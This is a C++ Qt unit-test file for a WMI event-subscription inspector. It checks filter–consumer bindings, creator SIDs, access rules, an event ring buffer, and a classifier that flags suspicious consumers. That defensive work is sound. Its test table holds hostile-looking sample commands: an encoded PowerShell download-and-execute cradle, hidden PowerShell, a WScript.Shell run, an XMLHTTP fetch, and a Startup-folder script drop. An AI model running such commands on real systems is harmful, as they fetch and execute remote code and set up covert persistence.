#include "core/cim/wql/parser.h"
#include "core/session/events/codereading.h"
#include "core/session/events/eventadvice.h"
#include "core/session/events/eventring.h"
#include "core/session/events/subscriptionexport.h"
#include "core/session/events/subscriptionreader.h"
#include "core/session/namespacesecurity.h"
#include "tests/session/subscriptionmaking.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

using namespace wbemscope;
using namespace wbemscope::events;
using test::drawn;
using test::Making;

namespace {

QString base64Of(const QString& text) {
    return QString::fromLatin1(
        QByteArray(reinterpret_cast<const char*>(text.utf16()), text.size() * 2).toBase64());
}

/// What the events kept say of themselves, "3 4 5".
QString numbersIn(const EventRing& ring) {
    QStringList texts;
    for (int i = 0; i < ring.count(); ++i) {
        const auto event = ring.at(i);
        texts += QStringLiteral("%1=%2")
                     .arg(event.number)
                     .arg(*event.object.instance->value(u"Number").asSigned());
    }
    return texts.join(u' ');
}

} // namespace

/// Permanent subscriptions without a host: references, suspicions, text; and the ring of a temporary one.
class TestSubscriptions : public QObject {
    Q_OBJECT
    using Bindings = QList<std::pair<QByteArray, QByteArray>>; ///< Filter, consumer

private Q_SLOTS:
    void graph_data() {
        QTest::addColumn<Bindings>("bindings");
        QTest::addColumn<QString>("expected");
        const QByteArray f = "__EventFilter.Name=\"F\"", c = "LogFileEventConsumer.Name=\"C\"";
        QTest::newRow("one") << Bindings{{f, c}} << QStringLiteral("ordinary F → C []");
        QTest::newRow("key without a name, other case")
            << Bindings{{"__eventfilter=\"f\"", "LOGFILEEVENTCONSUMER=\"c\""}}
            << QStringLiteral("ordinary F → C []");
        QTest::newRow("whole paths") << Bindings{{"\\\\.\\root\\subscription:" + f,
                                                  "//lab/ROOT/subscription:" + c}}
                                     << QStringLiteral("ordinary F → C []");
        QTest::newRow("by the superclass")
            << Bindings{{f, "__EventConsumer.Name=\"C\""}} << QStringLiteral("ordinary F → C []");
        QTest::newRow("none") << Bindings{} << QStringLiteral("unbound C [unbound]\nunbound F [unbound]");
        QTest::newRow("the filter is gone")
            << Bindings{{"__EventFilter.Name=\"G\"", c}}
            << QStringLiteral("broken G → C [filter-link]\nunbound F [unbound]");
        QTest::newRow("in a namespace that was not read")
            << Bindings{{"\\\\.\\ROOT\\other:" + f, c}}
            << QStringLiteral("broken F → C [filter-link]\nunbound F [unbound]");
        QTest::newRow("on another computer")
            << Bindings{{f, "\\\\ELSEWHERE\\ROOT\\subscription:" + c}}
            << QStringLiteral("broken F → C [consumer-link]\nunbound C [unbound]");
        QTest::newRow("twice, in two spellings")
            << Bindings{{f, c}, {"__EventFilter=\"F\"", c}}
            << QStringLiteral("broken F → C [duplicate]\nordinary F → C []");
        QTest::newRow("no paths") << Bindings{{"", "}{nonsense"}}
                                  << QStringLiteral("broken  → }{nonsense [filter-link consumer-link]\n"
                                                    "unbound C [unbound]\nunbound F [unbound]");
        QTest::newRow("a class, not an object")
            << Bindings{{"__EventFilter", c}}
            << QStringLiteral("broken __EventFilter → C [filter-link]\nunbound F [unbound]");
        QTest::newRow("round in a circle")
            << Bindings{{c, f}, {f, c}}
            << QStringLiteral("broken C → F [filter-link consumer-link cyclic]\nbroken F → C [cyclic]");
        QTest::newRow("to itself") << Bindings{{f, f}}
                                   << QStringLiteral("broken F → F [consumer-link cyclic]\n"
                                                     "unbound C [unbound]");
    }
    void graph() {
        QFETCH(const Bindings, bindings);
        Making host;
        host.filter("F");
        host.consumer("LogFileEventConsumer", "C");
        for (const auto& [filter, consumer] : bindings)
            host.bind(filter.constData(), consumer.constData());
        const auto report = host.report();
        QTEST(drawn(report), "expected");
        // Nothing is lost, and whatever is wrong is said.
        QCOMPARE(report.bindings.size(), std::size_t(bindings.size()));
        for (const auto& binding : report.bindings)
            for (const Link* link : {&binding.filter, &binding.consumer})
                QCOMPARE(link->state == Link::State::Found, link->words.isEmpty());
    }

    void longCircle() {
        // As long as a hostile host may make it.
        Making host;
        constexpr int Length = 5000;
        for (int i = 0; i < Length; ++i) {
            host.filter(QByteArray::number(i).constData());
            host.bind(("__EventFilter.Name=\"" + QByteArray::number(i) + '"').constData(),
                      ("__EventFilter.Name=\"" + QByteArray::number((i + 1) % Length) + '"').constData());
        }
        const auto report = host.report();
        QVERIFY(std::ranges::all_of(report.bindings, &Binding::cyclic));
        QCOMPARE(report.subscriptions.size(), std::size_t{Length});
    }

    void acrossNamespaces() {
        Making here, there;
        here.filter("F");
        there.nameSpace = there.made.nameSpace = QStringLiteral("ROOT\\Other");
        there.consumer("LogFileEventConsumer", "C");
        here.bind("__EventFilter.Name=\"F\"", "\\\\.\\root\\Other:LogFileEventConsumer.Name=\"C\"");
        QCOMPARE(referencedNamespaces(here.made), std::vector<QString>{QStringLiteral("ROOT\\Other")});
        QCOMPARE(drawn(makeReport({here.made, there.made}, {})),
                 QStringLiteral("ordinary F → C [cross-namespace]"));
        // A namespace that refused is no proof that nothing is there.
        there.made.consumers.clear();
        there.made.fetches[1].outcome.code = hr::WbemAccessDenied;
        const auto report = makeReport({here.made, there.made}, {});
        QCOMPARE(report.bindings[0].consumer.state, Link::State::Unread);
    }

    void suspicions_data() {
        QTest::addColumn<QString>("query");
        QTest::addColumn<QString>("cls");
        QTest::addColumn<QString>("code");
        QTest::addColumn<bool>("bySystem");
        QTest::addColumn<QString>("expected");
        const QString uptime =
            QStringLiteral("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                           "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240");
        const QString disk = QStringLiteral("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE "
                                            "TargetInstance ISA 'Win32_LogicalDisk'");
        const QString start = QStringLiteral("SELECT * FROM Win32_ProcessStartTrace");
        const QString clock = QStringLiteral("SELECT * FROM __TimerEvent WHERE TimerId = 'x'");
        const auto row = [](const char* name, const QString& query, const char* cls, const QString& code,
                            bool bySystem, const char* expected) {
            QTest::newRow(name) << query << QString::fromLatin1(cls) << code << bySystem
                                << QString::fromLatin1(expected);
        };
        const char* CommandLine = "CommandLineEventConsumer";
        const char* Script = "ActiveScriptEventConsumer";
        row("a log file of somebody's", uptime, "LogFileEventConsumer", QStringLiteral("C:\\log.txt"), false,
            "ordinary");
        row("a program of the system", disk, CommandLine, QStringLiteral("C:\\Program Files\\Tool\\tool.exe"),
            true, "ordinary");
        row("a program of somebody's", disk, CommandLine, QStringLiteral("C:\\Program Files\\Tool\\tool.exe"),
            false, "look creator");
        row("a batch by the clock", clock, CommandLine, QStringLiteral("cmd.exe /c del *.old"), true,
            "look shell clock");
        row("the classic", uptime, CommandLine, QStringLiteral("powershell -File C:\\x.ps1"), false,
            "suspicious shell creator uptime");
        row("encoded, even of the system", disk, CommandLine,
            QStringLiteral("powershell -nop -enc ") + base64Of(QStringLiteral("Get-Date; Get-Process")), true,
            "suspicious encoded-powershell shell");
        row("what is encoded counts", disk, CommandLine,
            QStringLiteral("powershell /ec ") +
                base64Of(QStringLiteral("IEX (New-Object Net.WebClient).DownloadString('http://x')")),
            true, "suspicious encoded-powershell fetches obscured shell");
        row("hidden", disk, CommandLine, QStringLiteral("powershell -w hidden x"), true, "look shell hidden");
        row("from a user's folder", disk, CommandLine, QStringLiteral("C:\\Users\\Public\\a.exe"), true,
            "look writable-place");
        row("a script by process start", start, Script,
            QStringLiteral("CreateObject(\"WScript.Shell\").Run \"calc\""), false,
            "suspicious shell creator process-start feeds-itself anybody-raises");
        row("fetching", disk, Script, QStringLiteral("Set x = CreateObject(\"MSXML2.XMLHTTP\")"), true,
            "suspicious fetches");
        row("a log file that will run", disk, "LogFileEventConsumer",
            QStringLiteral("C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\a.vbs"), true,
            "suspicious writes-code");
        row("named processes do not feed it",
            QStringLiteral("SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA "
                           "'Win32_Process' AND TargetInstance.Name = 'lsass.exe'"),
            CommandLine, QStringLiteral("C:\\Tool\\tool.exe"), true, "look process-start");
        row("a processor is no process",
            QStringLiteral("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                           "\"Win32_Processor\" AND TargetInstance.LoadPercentage > 99"),
            CommandLine, QStringLiteral("C:\\Tool\\tool.exe"), true, "ordinary");
        row("somebody else's class", disk, "VendorEventConsumer", QString(), false, "ordinary other-maker");
    }
    void suspicions() {
        QFETCH(const QString, query);
        QFETCH(const QString, cls);
        QFETCH(const QString, code);
        QFETCH(const bool, bySystem);
        Making host;
        if (!bySystem)
            host.creator = Sid(5, {21, 1, 2, 3, 1101});
        host.filter("F", query.toUtf8().constData());
        const QByteArray name = cls.toLatin1();
        const char* field = cls.startsWith(u"Command") ? "CommandLineTemplate"
                            : cls.startsWith(u"Log")   ? "Filename"
                                                       : "ScriptText";
        host.consumer(name.constData(), "C", {{field, code}});
        host.bind("__EventFilter.Name=\"F\"", (name + ".Name=\"C\"").constData());
        const auto report = host.report();
        QCOMPARE(report.subscriptions.size(), std::size_t{1});
        QStringList words{standingName(report.subscriptions[0].standing)};
        for (const Reason& reason : report.subscriptions[0].reasons) {
            words += QLatin1String(reason.id);
            QVERIFY(!reason.text.isEmpty() && !reason.text.contains(QStringLiteral("%1")));
            QVERIFY(reason.rests != 0);
        }
        QTEST(words.join(u' '), "expected");
    }

    void derivedConsumerActsLikeItsParent() {
        Making host;
        auto cls = std::make_shared<cim::Class>(
            *test::subscriptionClass(QStringLiteral("CommandLineEventConsumer")));
        cls->derivation.insert(cls->derivation.begin(), cls->name);
        cls->name = QStringLiteral("HarmlessConsumer");
        cim::Instance instance = cim::Instance::of(cls);
        instance.set(u"Name", QStringLiteral("C"));
        instance.set(u"CommandLineTemplate", QStringLiteral("cmd /c x"));
        const auto consumer =
            readConsumer({nullptr, std::make_shared<const cim::Instance>(instance)}, host.nameSpace);
        QCOMPARE(consumer.kind, ConsumerKind::CommandLine);
        QVERIFY(consumer.runsCode());
        QCOMPARE(consumer.action, QStringLiteral("starts: cmd /c x"));
        QCOMPARE(consumer.creator.problem, QStringLiteral("no CreatorSID"));
    }

    void creators_data() {
        QTest::addColumn<cim::Value>("value");
        QTest::addColumn<QString>("expected");
        const auto bytes = [](const char* hex) {
            return cim::bytesValue(QByteArray::fromHex(QByteArray(hex)));
        };
        QTest::newRow("system") << bytes("010100000000000512000000")
                                << QStringLiteral("NT AUTHORITY\\SYSTEM");
        QTest::newRow("administrators")
            << bytes("01020000000000052000000020020000") << QStringLiteral("BUILTIN\\Administrators");
        QTest::newRow("nobody knows")
            << bytes("0102000000000005150000004d040000") << QStringLiteral("S-1-5-21-1101");
        QTest::newRow("told") << bytes("0102000000000005150000004e040000") << QStringLiteral("WORKSHOP\\bob");
        QTest::newRow("too short") << bytes("010100") << QStringLiteral("unknown (3 bytes that are no SID)");
        QTest::newRow("too long") << bytes("01010000000000051200000000")
                                  << QStringLiteral("unknown (13 bytes that are no SID)");
        QTest::newRow("empty") << bytes("") << QStringLiteral("unknown (0 bytes that are no SID)");
        QTest::newRow("null") << cim::Value() << QStringLiteral("unknown (no CreatorSID)");
        QTest::newRow("text") << cim::Value(QStringLiteral("S-1-5-18"))
                              << QStringLiteral("unknown (CreatorSID is not made of bytes)");
        QTest::newRow("not bytes") << cim::Value(cim::Value::Array{QStringLiteral("x")})
                                   << QStringLiteral("unknown (CreatorSID is not made of bytes)");
        QTest::newRow("large numbers") << cim::Value(cim::Value::Array{quint64{300}})
                                       << QStringLiteral("unknown (CreatorSID is not made of bytes)");
    }
    void creators() {
        QFETCH(const cim::Value, value);
        cim::Instance instance = cim::Instance::of(test::subscriptionClass(QStringLiteral("__EventFilter")));
        instance.set(u"CreatorSID", value);
        QTEST(creatorText(creatorOf(instance),
                          {{QStringLiteral("S-1-5-21-1102"), QStringLiteral("WORKSHOP\\bob")}}),
              "expected");
    }

    void brokenCreatorsAreSaidAndDiffer() {
        Making host;
        host.filter("F", "SELECT * FROM X", {{"CreatorSID", cim::Value()}});
        host.consumer("LogFileEventConsumer", "C");
        host.bind("__EventFilter.Name=\"F\"", "LogFileEventConsumer.Name=\"C\"");
        QCOMPARE(drawn(host.report()), QStringLiteral("broken F → C [creators-differ no-creator]"));
    }

    void nonsenseInObjects() {
        Making host;
        host.filter("F", "",
                    {{"QueryLanguage", cim::Value(QStringLiteral("SQL"))},
                     {"EventNamespace", cim::Value(QStringLiteral(":::"))}});
        host.filter("G", "SELECT * FROM X", {{"Query", cim::Value(qint64{7})}});
        const auto report = host.report();
        QCOMPARE(drawn(report),
                 QStringLiteral("broken F [filter-nonsense filter-nonsense filter-nonsense unbound]\n"
                                "broken G [filter-nonsense filter-nonsense unbound]"));
        QVERIFY_THROWS_EXCEPTION(ProtocolError, readFilter({}, host.nameSpace));
        QVERIFY_THROWS_EXCEPTION(
            ProtocolError,
            readFilter(host.object(QStringLiteral("LogFileEventConsumer"), {}), host.nameSpace));
    }

    void whoMayRaise_data() {
        QTest::addColumn<QString>("sddl");
        QTest::addColumn<QString>("expected");
        QTest::newRow("administrators")
            << QStringLiteral("O:BAG:BAD:(A;;0x80;;;BA)") << QStringLiteral("BUILTIN\\Administrators");
        QTest::newRow("two") << QStringLiteral("O:BAG:BAD:(A;;0x80;;;SY)(A;;0x80;;;BA)")
                             << QStringLiteral("NT AUTHORITY\\SYSTEM, BUILTIN\\Administrators");
        QTest::newRow("denied again") << QStringLiteral("O:BAG:BAD:(D;;0x80;;;BA)(A;;0x80;;;BA)")
                                      << QStringLiteral("nobody (EventAccess grants it to none)");
        QTest::newRow("another right") << QStringLiteral("O:BAG:BAD:(A;;0x1;;;BA)")
                                       << QStringLiteral("nobody (EventAccess grants it to none)");
    }
    void whoMayRaise() {
        QFETCH(const QString, sddl);
        EventFilter filter;
        filter.eventAccess = sddl;
        QTEST(mayRaiseText(filter, {}), "expected");
        filter.eventAccess = std::nullopt;
        QCOMPARE(mayRaiseText(filter, {}), QStringLiteral("everybody (EventAccess is not set)"));
        filter.eventAccess = QStringLiteral("nonsense");
        QVERIFY(mayRaiseText(filter, {}).startsWith(u"not readable"));
    }

    void decoding() {
        const QString said = QStringLiteral("Write-Output 'hello'");
        for (const char* option : {"-EncodedCommand ", "-e ", "-enc ", "/Enc ", "-ec ", "-EncodedCommand:\""})
            QCOMPARE(decodedPowerShell(QStringLiteral("powershell.exe -NoProfile %1%2")
                                           .arg(QLatin1String(option), base64Of(said))),
                     std::optional(said));
        for (const QString& line :
             {QString(), QStringLiteral("tool -e 12"), QStringLiteral("tar -exclude AAAAAAAAAAAAAAAAAAAA"),
              QStringLiteral("powershell -enc !!!!!!!!!!!!!!!!!!!!")})
            QVERIFY2(!decodedPowerShell(line), qPrintable(line));
    }

    void planEnds() {
        ReadingPlan plan({QStringLiteral("root\\subscription"), QStringLiteral("ROOT\\Subscription"),
                          QStringLiteral(":nonsense")},
                         true);
        QCOMPARE(plan.next(),
                 std::optional(QStringLiteral("ROOT\\subscription"))); // once, whatever its spelling
        QCOMPARE(plan.next(), std::nullopt);
        // A host that makes up namespaces without end.
        NamespaceSubscriptions crowd;
        crowd.nameSpace = QStringLiteral("ROOT");
        for (int i = 0; i < MostNamespaces + 50; ++i)
            crowd.children.push_back(QString::number(i));
        plan.take(crowd);
        QVERIFY(plan.problem().contains(QString::number(MostNamespaces)));
        int ahead = 0;
        while (plan.next())
            ++ahead;
        QVERIFY(ahead < MostNamespaces);
        // And one without a bottom.
        ReadingPlan deep({QStringLiteral("ROOT")}, true);
        int depth = 0;
        while (const auto name = deep.next()) {
            ++depth;
            NamespaceSubscriptions one;
            one.nameSpace = *name;
            one.children = {QStringLiteral("x")};
            deep.take(one);
        }
        QCOMPARE(depth, DeepestNamespace + 1);
        QVERIFY(deep.problem().isEmpty());
    }

    void gist() {
        QCOMPARE(queryGist(QStringLiteral(
                     "select * from __InstanceCreationEvent within 5 where TargetInstance.X = 1 "
                     "and TargetInstance isa 'Win32_Process'")),
                 QStringLiteral("Win32_Process: __InstanceCreationEvent WITHIN 5"));
        QCOMPARE(queryGist(QStringLiteral("SELECT * FROM Own")), QStringLiteral("Own"));
        QCOMPARE(queryGist(QStringLiteral("no  WQL")), QStringLiteral("no WQL"));
    }

    void json() {
        Making host;
        host.filter("F");
        host.consumer("CommandLineEventConsumer", "C",
                      {{"CommandLineTemplate", QStringLiteral("cmd /c \"x\"\n")}});
        host.bind("__EventFilter.Name=\"F\"", "CommandLineEventConsumer.Name=\"C\"");
        host.bind("__EventFilter.Name=\"Gone\"", "CommandLineEventConsumer.Name=\"C\"");
        const auto report = host.report();
        const auto json = QJsonDocument::fromJson(subscriptionsAsJson(report, {})).object();
        const auto subscriptions = json.value(QStringLiteral("subscriptions")).toArray();
        QCOMPARE(subscriptions.size(), 2);
        QCOMPARE(subscriptions[0].toObject().value(QStringLiteral("standing")).toString(),
                 QStringLiteral("broken"));
        QVERIFY(subscriptions[0].toObject().value(QStringLiteral("filter")).isNull());
        QCOMPARE(subscriptions[1]
                     .toObject()
                     .value(QStringLiteral("consumer"))
                     .toObject()
                     .value(QStringLiteral("code"))
                     .toString(),
                 QStringLiteral("cmd /c \"x\"\n"));
        const QString dot = QString::fromUtf8(subscriptionsAsDot(report));
        QVERIFY(dot.contains(u"f0 -> c0"));
        QVERIFY(dot.contains(u"missing_f1 -> c0"));
        QVERIFY(dot.contains(QStringLiteral("starts: cmd /c \\\"x\\\"")));
    }

    void ringKeepsTheLast() {
        EventRing ring(5);
        const auto add = [&](const EventRing::Batches& batches) {
            const auto change = ring.changeBy(batches);
            ring.dropOldest(change.leaving);
            ring.append(batches, change.arriving, 0);
        };
        add({test::ticks(2)});
        QCOMPARE(numbersIn(ring), QStringLiteral("1=0 2=1"));
        add({test::ticks(2, 2), nullptr, test::ticks(0), test::ticks(2, 4)});
        QCOMPARE(numbersIn(ring), QStringLiteral("2=1 3=2 4=3 5=4 6=5"));
        QCOMPARE(ring.dropped(), 1);
        add({test::ticks(10, 6), test::ticks(3, 16)});
        QCOMPARE(numbersIn(ring), QStringLiteral("15=14 16=15 17=16 18=17 19=18"));
        QCOMPARE(ring.total(), 19);
        QCOMPARE(ring.dropped(), 14);
        ring.clear();
        QCOMPARE(ring.count(), 0);
        QCOMPARE(ring.total(), 0);
    }

    void ringIsBoundedByWeight() {
        const qsizetype weight = test::ticks(10)->byteSize();
        QVERIFY(weight > 0);
        EventRing ring(1'000'000, weight * 3);
        for (int i = 0; i < 50; ++i) {
            const EventRing::Batches batches{test::ticks(10, i * 10)};
            const auto change = ring.changeBy(batches);
            ring.dropOldest(change.leaving);
            ring.append(batches, change.arriving, 0);
            QVERIFY(ring.byteSize() <= weight * 4);
        }
        QCOMPARE(ring.total(), 500);
        QVERIFY(ring.count() >= 10 && ring.count() <= 40);
        // One that alone is too heavy is shown all the same.
        EventRing narrow(10, 1);
        const EventRing::Batches batches{test::ticks(1)};
        QCOMPARE(narrow.changeBy(batches).arriving, 1);
    }

    void rate() {
        EventRate rate;
        rate.restart(1000);
        QCOMPARE(rate.perSecond(1000), 0.0);
        rate.note(1100, 10);
        QCOMPARE(rate.perSecond(2000), 10.0);
        rate.note(3000, 10);
        QCOMPARE(rate.perSecond(3000), 10.0);
        QCOMPARE(rate.perSecond(6001), 2.0); // what is older than the window is forgotten
        QCOMPARE(rate.perSecond(60'000), 0.0);
    }

    void adviceAndExamples() {
        for (const Example& example : examples()) {
            const auto query = cim::wql::parse(QString::fromLatin1(example.wql));
            QVERIFY2(query.select(), example.wql);
            QVERIFY(!exampleTitle(example).isEmpty());
            QCOMPARE(doubtAbout(QString::fromLatin1(example.wql)), QString());
        }
        Outcome outcome;
        QCOMPARE(adviceFor(outcome, {}), QString());
        outcome.code = 0x80042002;
        QVERIFY(adviceFor(outcome, {}).contains(u"WITHIN"));
        outcome.code = hr::WbemUnparsableQuery;
        QVERIFY(adviceFor(outcome, QStringLiteral("SELECT FROM")).startsWith(u"Line 1, column"));
        QVERIFY(!doubtAbout(QStringLiteral("REFERENCES OF {X=1}")).isEmpty());
    }
};

QTEST_GUILESS_MAIN(TestSubscriptions)
#include "tst_subscriptions.moc"
